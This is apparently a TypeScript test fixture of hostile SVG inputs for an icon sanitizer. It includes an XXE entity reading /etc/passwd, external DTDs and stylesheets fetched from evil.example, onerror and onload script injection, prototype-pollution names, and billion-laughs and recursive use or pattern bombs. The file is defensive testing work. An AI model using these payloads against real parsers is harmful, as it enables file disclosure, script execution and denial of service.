// Icons that are not well-formed, expand, refer to themselves, or take too long to process.
import { icon, SHAPE } from '../../icon.ts';
import type { Case } from './markup.ts';

const good = icon(SHAPE);
const chain = (levels: number, width: number) =>
  Array.from({ length: levels }, (_, i) => {
    const inside = i === 0 ? SHAPE : `<use href="#u${i - 1}"/>`.repeat(width);
    return `<g id="u${i}">${inside}</g>`;
  }).join('');

export const xml: Case[] = [
  ['stylesheet instruction', `<?xml-stylesheet href="https://evil.example/x.css"?>${good}`],
  ['HTML in an instruction', icon(`<?x ><img src=x onerror=ran=1>?>${SHAPE}`)],
  ['PHP', icon(`<?php echo 1 ?>${SHAPE}`)],
  ['entities', `<!DOCTYPE svg [<!ENTITY a "b">]>${icon('<title>&a;</title>')}`],
  [
    'an outside entity',
    `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${icon('<text>&a;</text>')}`,
  ],
  ['a parameter entity', `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/d.dtd"> %a;]>${good}`],
  ['attributes by DOCTYPE', `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "ran=1">]>${good}`],
  ['a billion laughs', `<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>${icon('<text>&b;</text>')}`],
  ['an outside DOCTYPE', `<!DOCTYPE svg SYSTEM "https://evil.example/d.dtd">${good}`, 'clean'],
  ['an entity of HTML', icon(`<title>&nbsp;</title>${SHAPE}`), 'clean'],
  ['a NUL by reference', icon('<text y="9">&#0;a</text>')],
  ['a control character by reference', icon('<text y="9">&#1;a</text>')],
  ['a control character', icon('<text y="9">\u0008a</text>')],
  ['half a surrogate pair', icon('<text y="9">&#xD800;a</text>')],
  ['U+FFFF', icon('<text y="9">\uFFFFa</text>')],
  ['an attribute twice', icon('<path d="M2 2h20v20z" d="M0 0h9v9z"/>')],
  ['an attribute twice, one a handler', icon('<path fill="red" fill="blue" onclick="ran=1" d="M0 0h9v9z"/>')],
  ['__proto__ as an attribute', icon('<path __proto__="x" d="M2 2h20v20z"/>')],
  ['constructor as an element', icon('<constructor/>')],
  ['a second root', `${good}<script>ran=1</script>`],
  ['a second svg', good + good],
  ['text after the root', `${good}<![CDATA[x]]>`],
  ['text before the root', `x${good}`],
  ['not closed', good.slice(0, -6)],
  ['truncated in a tag', `<svg ${'a="x" '.repeat(40)}`],
  ['no quotes', icon('<path d=M0/>')],
  ['a name that is none', icon('<1/>')],
  ['a prefix of nothing', icon(`<x:g>${SHAPE}</x:g>`)],
  ['xmlns of another place', icon(`<g xmlns="urn:x">${SHAPE}</g>`)],
  ['xmlns:xlink of another place', icon(`<g xmlns:xlink="urn:x">${SHAPE}</g>`), 'clean'],
  ['id that clobbers', icon(`<g id="cookie">${SHAPE}</g>`), 'clean'],
  ['id that clobbers and is used', icon('<path id="body" d="M2 2h9v9z"/><use href="#body" x="9"/>'), 'clean'],
  ['id __proto__', icon('<path id="__proto__" d="M2 2h9v9z"/><use href="#__proto__" x="9"/>'), 'clean'],
  ['name attribute', icon(`<g name="cookie">${SHAPE}</g>`), 'clean'],
  ['slot', icon(`<g slot="x">${SHAPE}</g>`), 'clean'],
  ['is', icon(`<g is="x-y">${SHAPE}</g>`), 'clean'],
  ['nonce', icon(`<g nonce="x">${SHAPE}</g>`), 'clean'],
  ['requiredExtensions', icon(`<g requiredExtensions="urn:x">${SHAPE}</g>`)],
  ['systemLanguage', icon(`<g systemLanguage="de">${SHAPE}</g>`)],
];

export const bombs: Case[] = [
  ['use of itself', icon('<g id="h"><use href="#h"/></g>')],
  ['use of its symbol', icon('<symbol id="h"><use href="#h"/></symbol><use href="#h"/>')],
  ['use of each other', icon('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')],
  ['use of the root', icon(`<use href="#r"/>${SHAPE}`, 'id="r" viewBox="0 0 24 24"')],
  [
    'mask of itself',
    icon('<mask id="m"><path mask="url(#m)" d="M0 0h9v9z"/></mask><path mask="url(#m)" d="M0 0h9v9z"/>'),
  ],
  [
    'pattern of itself',
    icon('<pattern id="p" width="9" height="9"><path fill="url(#p)" d="M0 0h9v9z"/></pattern>'),
  ],
  [
    'patterns of each other',
    icon('<pattern id="p" href="#q"/><pattern id="q" href="#p"/><path fill="url(#p)" d="M0 0h9v9z"/>'),
  ],
  ['clip path of itself', icon('<clipPath id="c" clip-path="url(#c)"><path d="M0 0h9v9z"/></clipPath>')],
  ['marker of itself', icon('<marker id="k"><path marker-start="url(#k)" d="M0 0h9"/></marker>')],
  [
    'filter in a pattern of itself',
    icon('<pattern id="p" width="9" height="9"><g fill="url(#p)"/></pattern>'),
  ],
  ['use bomb of 10^9', icon(`${chain(10, 10)}<use href="#u9"/>`)],
  ['use bomb of 2^20', icon(`${chain(21, 2)}<use href="#u20"/>`)],
  [
    'use of a large drawing',
    icon(`<g id="b">${'<path d="M0 0h9v9z"/>'.repeat(2000)}</g>${'<use href="#b"/>'.repeat(500)}`),
  ],
  [
    'marker of a large drawing',
    icon(
      `<marker id="k">${'<path d="M0 0h9"/>'.repeat(500)}</marker><path marker-mid="url(#k)" d="M0 0${'h1v1'.repeat(2000)}"/>`,
    ),
  ],
  [
    'patterns that multiply',
    icon(
      Array.from(
        { length: 12 },
        (_, i) =>
          `<pattern id="p${i}" width="1" height="1">${`<path fill="url(#p${i + 1})" d="M0 0h1v1z"/>`.repeat(8)}</pattern>`,
      ).join('') + '<pattern id="p12"/><path fill="url(#p0)" d="M0 0h9v9z"/>',
    ),
  ],
  ['nesting of 5,000', icon('<g>'.repeat(5000) + '</g>'.repeat(5000))],
  ['50,000 elements', icon('<g/>'.repeat(50_000))],
  ['4,999 elements over many lines', icon(`${'\n'.repeat(400_000)}${'<g/>'.repeat(4990)}${SHAPE}`), 'clean'],
  ['a comment of 600 KB', icon(`<!--${'x'.repeat(600_000)}-->${SHAPE}`)],
  ['an attribute of 300 KB', icon(`<path d="M0 0${'h1'.repeat(150_000)}"/>`)],
  ['a picture as data', icon(`<image href="data:image/png;base64,${'A'.repeat(100_000)}"/>`)],
  ['3,000 rules', icon(`<style>${'.a{fill:red}'.repeat(3000)}</style>${SHAPE}`)],
  ['one rule of 9,000 selectors', icon(`<style>${'.a,'.repeat(9000)}.b{fill:red}</style>${SHAPE}`)],
  ['a sheet of no rules', icon(`<style>${'a'.repeat(400_000)}</style>${SHAPE}`)],
  ['a sheet of open comments', icon(`<style>${'/*'.repeat(200_000)}</style>${SHAPE}`)],
  ['a viewBox of digits', icon(SHAPE, `viewBox="${'1'.repeat(190_000)}"`)],
  ['a var() of blanks', icon(`<path stroke-width="var(--a,${' '.repeat(150_000)}" d="M2 2h20v20z"/>`)],
  ['transform garbage', icon(`<g transform="${'rotate('.repeat(15_000)}">${SHAPE}</g>`)],
  ['letters in path data', icon('<path d="M2 2h20x9v20z"/>')],
  ['a call in path data', icon('<path d="path(M2 2h20)"/>')],
];
